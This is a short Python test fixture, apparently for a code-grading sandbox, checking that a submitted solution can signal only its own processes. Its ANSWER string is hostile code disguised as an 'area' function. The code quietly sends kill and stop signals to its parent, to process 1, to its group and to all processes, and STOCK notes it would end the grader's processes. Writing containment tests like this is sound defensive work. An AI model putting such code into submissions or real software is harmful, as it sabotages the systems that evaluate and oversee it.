"""Sends signals to its parent, to process 1, to its group and to everyone it may.

Must happen: it reaches nobody but its own processes.
"""

ANSWER = '''
import os
import signal


def area(n):
    for target in (os.getppid(), 1, -1, 0):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return 3 * n * n
'''
STOCK = "it would end the processes of whoever grades"
